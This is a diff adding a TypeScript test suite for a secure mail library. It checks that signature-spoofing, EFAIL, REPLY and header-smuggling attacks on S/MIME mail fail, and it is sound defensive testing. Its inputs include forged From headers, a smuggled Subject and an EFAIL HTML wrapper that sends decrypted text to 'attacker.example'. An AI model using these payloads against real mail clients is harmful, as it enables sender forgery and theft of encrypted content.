@@ -1,0 +1,347 @@
+// Attacks on mail, each under its name: CVE numbers, and i1… and m1… of "Johnny, you are fired!" (Müller et al. 2019).
+
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { NOW } from '../../test/authority.ts'
+import { ana, bob, draft, mailAround, mallory, reading, sealedFor, signerOf, typed } from '../../test/mail-scene.ts'
+import { seal } from '../../test/sealing.ts'
+import { concat, fromUtf8, latin1, utf8 } from '../bytes/index.ts'
+import { signBytes } from '../cms/index.ts'
+import { hasCode } from '../errors/index.ts'
+import type { Mail, MimePart, SealedLayer, SignedLayer } from './index.ts'
+import { buildMail, partContent, partText, readMail, readMime, sealMail, signMail } from './index.ts'
+
+const signing = { signers: [signerOf(ana)], at: NOW }
+const genuine = await signMail(buildMail({ ...draft, text: 'genuine' }), signing)
+const sealedToBob = await sealMail(buildMail({ ...draft, text: 'a secret' }), sealedFor(bob))
+const FROM = 'From: Ana <ana@example.org>'
+
+/** The entity of a mail, without the fields that say who writes to whom. */
+const entityOf = (mail: Uint8Array): string => fromUtf8(mail).slice(fromUtf8(mail).indexOf('Content-Type:'))
+
+const mixed = (kind: string, ...parts: readonly string[]): Uint8Array =>
+  typed(
+    FROM,
+    `Content-Type: multipart/${kind}; boundary=outer`,
+    '',
+    ...parts.map((part) => `--outer\r\n${part}`),
+    '--outer--',
+    '',
+  )
+
+const html = (text: string): string => `Content-Type: text/html\r\n\r\n${text}`
+
+const textsOf = (part: MimePart): string[] =>
+  part.parts.length > 0 ? part.parts.flatMap(textsOf) : part.type.value.startsWith('text/') ? [partText(part)] : []
+
+/** A mail with this field instead of its From, signed by Ana without header protection, as old programs sign. */
+async function signedFrom(...fields: readonly string[]): Promise<Mail> {
+  const signed = fromUtf8(await signMail(buildMail(draft), { ...signing, protectHeaders: false }))
+  return readMail(utf8(signed.replace(/^From: .*\r\n/m, fields.map((field) => `${field}\r\n`).join(''))), reading)
+}
+
+test('CVE-2021-4126, CVE-2018-15587, CVE-2018-15586, m1–m4: a signed part beside others says nothing of the mail', async () => {
+  const plain = 'Content-Type: text/plain\r\n\r\nforged'
+  const opaque = entityOf(await signMail(buildMail(draft), { ...signing, form: 'opaque' }))
+  for (const kind of ['mixed', 'related', 'alternative', 'signed']) {
+    for (const parts of [
+      [plain, entityOf(genuine)],
+      [entityOf(genuine), plain],
+      [html('<div style="display:none">'), entityOf(genuine)],
+      [plain, opaque],
+      [opaque],
+    ]) {
+      const mail = await readMail(mixed(kind, ...parts), reading)
+      assert.deepEqual([mail.signature, mail.layers, mail.fields.some(({ signed }) => signed)], ['none', [], false])
+      assert.equal(mail.warnings.filter((warning) => warning.kind === 'protected-part').length, 1)
+    }
+  }
+})
+
+test('m1–m4: text around the parts of a signed mail is not shown, and a third part makes it no signed mail', async () => {
+  const text = fromUtf8(genuine)
+  const boundary = /boundary="([^"]+)"/.exec(text)![1]!
+  const around = text.replace(`\r\n\r\n--${boundary}\r\n`, `\r\n\r\nforged\r\n--${boundary}\r\n`)
+  assert.notEqual(around, text)
+  const read = await readMail(utf8(`${around}forged\r\n`), reading)
+  assert.deepEqual([read.signature, textsOf(read.content)], ['valid', ['genuine\r\n']])
+  for (const extra of [`\r\n\r\n--${boundary}\r\n\r\nforged\r\n--${boundary}\r\n`, undefined]) {
+    const three = extra
+      ? text.replace(`\r\n\r\n--${boundary}\r\n`, extra)
+      : text.replace(`--${boundary}--`, `--${boundary}\r\n\r\nforged\r\n--${boundary}--`)
+    assert.notEqual(three, text)
+    const mail = await readMail(utf8(three), reading)
+    assert.equal(mail.signature, 'invalid')
+    assert.ok(hasCode((mail.layers[0] as SignedLayer).error, 'mime_malformed'))
+  }
+})
+
+test('CVE-2018-18509: a signature that brings a content of its own is not taken for the one shown', async () => {
+  const own = await signBytes(utf8('Content-Type: text/plain\r\n\r\nanother'), signing)
+  const lines = latin1(mailAround(own)).split('\r\n\r\n')[1]!
+  const mail = typed(
+    FROM,
+    'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=b',
+    '',
+    '--b',
+    '',
+    'shown',
+    '--b',
+    'Content-Type: application/pkcs7-signature',
+    'Content-Transfer-Encoding: base64',
+    '',
+    `${lines}--b--`,
+    '',
+  )
+  const read = await readMail(mail, reading)
+  assert.equal(read.signature, 'invalid')
+  assert.ok(hasCode((read.layers[0] as SignedLayer).error, 'content_twice'))
+})
+
+test('i1: an empty or missing From, a group, or no address: nobody is the author, and nothing is valid', async () => {
+  for (const from of [
+    'From:',
+    'From: <>',
+    'From: Ana',
+    'From: team: ana@example.org;',
+    'From: ana@example.org <>',
+    'X-From: ana@example.org',
+  ]) {
+    const mail = await signedFrom(from)
+    assert.deepEqual([mail.from, mail.signature], [undefined, 'invalid'], from)
+    assert.ok(
+      mail.warnings.some(({ kind }) => kind === 'from-unclear'),
+      from,
+    )
+  }
+})
+
+test('i2: several authors, in one From or in several, are nobody', async () => {
+  for (const from of [
+    ['From: boss@example.org, ana@example.org'],
+    ['From: ana@example.org, boss@example.org'],
+    ['From: boss@example.org', 'From: ana@example.org'],
+    ['From: ana@example.org', 'from: boss@example.org'],
+  ]) {
+    const mail = await signedFrom(...from)
+    assert.deepEqual([mail.from, mail.signature], [undefined, 'invalid'], from.join())
+  }
+})
+
+test('i3: a name that looks like an address is told, and the address alone is compared', async () => {
+  for (const name of [
+    '"boss@example.org"',
+    '=?utf-8?Q?boss=40example.org?=',
+    '"boss＠example.org"',
+    '"boss\u200b@example.org"',
+    'boss@example.org',
+  ]) {
+    const mail = await signedFrom(`From: ${name} <ana@example.org>`)
+    assert.deepEqual([mail.from?.address, mail.signature], ['ana@example.org', 'valid'], name)
+    assert.equal(mail.warnings[0]?.kind, 'from-misleading', name)
+  }
+  const own = await signedFrom('From: "ana@example.org" <ana@example.org>')
+  assert.deepEqual(own.warnings, [])
+  // The other way round: the author's name is the signer's address, the address is not.
+  const reversed = await signedFrom('From: "ana@example.org" <boss@example.org>')
+  assert.equal(reversed.signature, 'invalid')
+  for (const word of [
+    'From: =?utf-8?Q?ana=40example.org?=',
+    'From: boss@example.org(ana@example.org)',
+    'From: boss@[ana@example.org]',
+  ]) {
+    assert.equal((await signedFrom(word)).signature, 'invalid', word)
+  }
+})
+
+test('a signer who is the Sender and not the author signs for nobody; who sent is told', async () => {
+  const mail = await signedFrom('From: boss@example.org', 'Sender: ana@example.org')
+  assert.equal(mail.signature, 'invalid')
+  assert.deepEqual(mail.warnings, [{ kind: 'sender-differs', sender: 'ana@example.org' }])
+  const [layer] = mail.layers as SignedLayer[]
+  const { integrity, chain, identity } = layer!.signers[0]!
+  assert.deepEqual([integrity.ok, chain.ok, identity !== 'not-asked' && identity.ok], [true, true, false])
+})
+
+test('EFAIL (CVE-2017-17688, CVE-2017-17689): a sealed part between parts of HTML is not opened, nor joined with them', async () => {
+  const parts = [html('<img src="http://attacker.example/'), entityOf(sealedToBob), html('">')]
+  const mail = await readMail(mixed('mixed', ...parts), reading)
+  assert.deepEqual([mail.layers, mail.sealed], [[], false])
+  assert.deepEqual(
+    mail.content.parts.map(({ type }) => type.value),
+    ['text/html', 'application/pkcs7-mime', 'text/html'],
+  )
+  assert.ok(!textsOf(mail.content).join('').includes('secret'))
+  assert.deepEqual(mail.warnings, [{ kind: 'protected-part', type: 'application/pkcs7-mime' }])
+})
+
+test('EFAIL: what was sealed never fetches anything, and blocks put into a CBC seal are never valid', async () => {
+  assert.equal((await readMail(sealedToBob, reading)).mayFetch, false)
+  const sealed = await sealMail(buildMail(draft), { ...sealedFor(bob), cipher: 'AES-256-CBC' })
+  const { fields, body } = { fields: readMime(sealed).fields, body: partContent(readMime(sealed)) }
+  assert.ok(fields.length > 0)
+  const seen = new Set<string>()
+  for (let at = body.length - 400; at < body.length - 20; at += 7) {
+    const altered = body.slice()
+    altered[at]! ^= 1
+    const mail = await readMail(mailAround(altered, FROM), reading)
+    assert.notEqual(mail.signature, 'valid')
+    const { error } = mail.layers[0] as SealedLayer
+    seen.add(error ? error.code : mail.warnings.some(({ kind }) => kind === 'content-malleable') ? 'told' : 'silent')
+  }
+  assert.ok(!seen.has('silent'))
+  // Whatever became of the plaintext, there is no second word for it.
+  assert.deepEqual(
+    [...seen].filter((code) => code === 'mime_malformed'),
+    [],
+  )
+})
+
+test('REPLY: a sealed mail that is quoted or attached in another is not opened, so that no answer can carry it', async () => {
+  const attached = `Content-Type: message/rfc822\r\n\r\n${fromUtf8(sealedToBob)}`
+  for (const mail of [
+    mixed('mixed', 'Content-Type: text/plain\r\n\r\nplease answer', attached),
+    mixed('mixed', attached),
+  ]) {
+    const read = await readMail(mail, reading)
+    assert.deepEqual([read.layers, read.sealed], [[], false])
+    assert.ok(!textsOf(read.content).join('').includes('secret'))
+  }
+})
+
+test('header names with spaces, NUL, or nothing, lines of spaces and bare CRs are refused', async () => {
+  for (const header of [
+    'Subject : smuggled',
+    'Sub ject: smuggled',
+    'Subject\0: smuggled',
+    'Subject: smug\0gled',
+    ': smuggled',
+    'no colon',
+    ' a continuation of nothing',
+    `${FROM}\r\n \r\nSubject: smuggled`,
+    `${FROM}\r\n\t \r\n Subject: smuggled`,
+    `${FROM}\rSubject: smuggled`,
+    'Sübject: smuggled',
+  ]) {
+    await assert.rejects(
+      readMail(utf8(`${header}\r\n\r\na text`), reading),
+      (error) => hasCode(error, 'mime_malformed'),
+      header,
+    )
+  }
+})
+
+test('a Subject that is smuggled into an encoded word or beside another stays one text, or is told', async () => {
+  const hidden = typed(FROM, 'Subject: =?utf-8?Q?a=0D=0AFrom:_boss@example.org?=', '', 'a text')
+  const read = await readMail(hidden, reading)
+  assert.deepEqual(read.fields[1]?.text, 'a\ufffd\ufffdFrom: boss@example.org')
+  assert.equal(read.from?.address, 'ana@example.org')
+  const twice = await readMail(typed(FROM, 'Subject: a', 'subject: b', '', 'a text'), reading)
+  assert.deepEqual(twice.warnings, [{ kind: 'field-twice', name: 'Subject' }])
+})
+
+test('boundaries: a line that begins like one is content, spaces behind one are not, another part’s boundary is content', () => {
+  const parts = (body: string, boundary = 'b'): string[] =>
+    readMime(utf8(`Content-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n${body}`)).parts.map((part) =>
+      latin1(part.body),
+    )
+  assert.deepEqual(parts('--b\r\n\r\none\r\n--bb\r\n--b-\r\n--b--x\r\n --b\r\n--b \t\r\n\r\ntwo\r\n--b-- \r\n'), [
+    'one\r\n--bb\r\n--b-\r\n--b--x\r\n --b',
+    'two',
+  ])
+  // The outer boundary begins with the inner one.
+  const inner = 'Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nin\r\n--b--'
+  const [first, second] = readMime(
+    utf8(`Content-Type: multipart/mixed; boundary=bb\r\n\r\n--bb\r\n${inner}\r\n--bb\r\n\r\nout\r\n--bb--\r\n`),
+  ).parts
+  assert.deepEqual([textsOf(first!), textsOf(second!)], [['in'], ['out']])
+  for (const type of [
+    'multipart/mixed; boundary=b; boundary=c',
+    'multipart/mixed; boundary="b "',
+    'multipart/mixed; boundary="b\tc"',
+  ]) {
+    assert.throws(
+      () => readMime(utf8(`Content-Type: ${type}\r\n\r\n--b\r\n\r\n\r\n--b--\r\n`)),
+      (error) => hasCode(error, 'mime_malformed'),
+    )
+  }
+})
+
+test('LF for CRLF does not change a verdict silently: it is told, and the lines that were verified are those shown', async () => {
+  const lf = await readMail(utf8(fromUtf8(genuine).replaceAll('\r\n', '\n')), reading)
+  assert.deepEqual([lf.signature, lf.warnings], ['valid', [{ kind: 'line-ends-changed' }]])
+  assert.equal(partText(lf.content), 'genuine\r\n')
+  // A CR alone is no line end for anybody, so it cannot be put in or taken away.
+  const cr = await readMail(utf8(fromUtf8(genuine).replace('genuine', 'gen\ruine')), reading)
+  assert.equal(cr.signature, 'invalid')
+})
+
+test('inner and outer header fields are never merged: those inside are shown, and a difference is told (RFC 9788)', async () => {
+  const forged = fromUtf8(genuine)
+    .replace(/^Subject: .*(\r\n .*)*$/m, 'Subject: forged')
+    .replace(/^To: .*$/m, 'To: all@example.org\r\nReply-To: mallory@example.org')
+    .replace(/^From: .*$/m, 'From: boss@example.org')
+  const read = await readMail(utf8(forged), reading)
+  assert.equal(read.signature, 'valid')
+  assert.equal(read.from?.address, 'ana@example.org')
+  assert.deepEqual(
+    read.fields.map(({ name, signed }) => [name, signed]),
+    ['From', 'To', 'Subject', 'Date', 'Message-ID'].map((name) => [name, true]),
+  )
+  assert.deepEqual(
+    read.warnings.map((warning) => warning.kind === 'field-differs' && warning.name),
+    ['From', 'Reply-To', 'To', 'Subject'],
+  )
+})
+
+test('an unsigned seal with another From inside: the one outside is shown, and nobody is believed (RFC 9788 §4.4)', async () => {
+  const forged = buildMail({ ...draft, from: { address: 'boss@example.org' } })
+  const sealed = fromUtf8(await sealMail(forged, sealedFor(bob))).replace('From: boss@', 'From: mallory@')
+  const read = await readMail(utf8(sealed), reading)
+  assert.deepEqual([read.from?.address, read.signature], ['mallory@example.org', 'none'])
+  assert.ok(read.warnings.some((warning) => warning.kind === 'field-differs' && warning.name === 'From'))
+  const signedByOther = await sealMail(forged, { ...sealedFor(bob), sign: { signers: [signerOf(mallory)], at: NOW } })
+  const other = await readMail(utf8(fromUtf8(signedByOther).replace('From: boss@', 'From: mallory@')), reading)
+  assert.deepEqual([other.from?.address, other.signature], ['mallory@example.org', 'invalid'])
+})
+
+test('header fields in a payload whose signature does not hold are not shown as the mail’s', async () => {
+  const broken = fromUtf8(genuine).replace('genuine', 'altered')
+  const read = await readMail(utf8(broken), reading)
+  assert.equal(read.signature, 'invalid')
+  assert.ok(read.fields.every(({ signed, hidden }) => !signed && !hidden))
+})
+
+test('a signed receipt or a forwarded mail does not lend its signature to the mail around it', async () => {
+  const forwarded = `Content-Type: message/rfc822\r\n\r\n${fromUtf8(genuine)}`
+  for (const mail of [
+    concat(utf8(`${FROM}\r\n`), utf8(forwarded)),
+    mixed('mixed', 'Content-Type: text/plain\r\n\r\nsee below', forwarded),
+    mixed('report; report-type=disposition-notification', 'Content-Type: text/plain\r\n\r\nread', entityOf(genuine)),
+  ]) {
+    const read = await readMail(mail, reading)
+    assert.deepEqual([read.signature, read.layers], ['none', []])
+  }
+  // Signed by whoever forwards: his signature is over it, the one inside is not asked.
+  const by = await signMail(concat(utf8('From: mallory@example.org\r\n'), utf8(forwarded)), {
+    signers: [signerOf(mallory)],
+    at: NOW,
+  })
+  const read = await readMail(by, reading)
+  assert.deepEqual([read.signature, read.from?.address, read.layers.length], ['valid', 'mallory@example.org', 1])
+  assert.equal(read.content.type.value, 'message/rfc822')
+})
+
+test('a media type or file name says nothing: what the content is decides, and what it cannot be is refused', async () => {
+  const sealed = await seal(buildMail(draft), sealedFor(bob))
+  const signed = await signBytes(buildMail(draft), signing)
+  const claiming = (cms: Uint8Array, type: string): Uint8Array =>
+    utf8(latin1(mailAround(cms, FROM)).replace('application/pkcs7-mime', `application/pkcs7-mime; smime-type=${type}`))
+  const one = await readMail(claiming(sealed, 'signed-data'), reading)
+  assert.deepEqual([one.signature, one.sealed], ['none', true])
+  const other = await readMail(claiming(signed, 'enveloped-data'), reading)
+  assert.deepEqual([other.signature, other.sealed], ['valid', false])
+  const nothing = await readMail(claiming(utf8('not CMS'), 'signed-data'), reading)
+  assert.ok((nothing.layers[0] as SealedLayer).error)
+  assert.notEqual(nothing.signature, 'valid')
+})
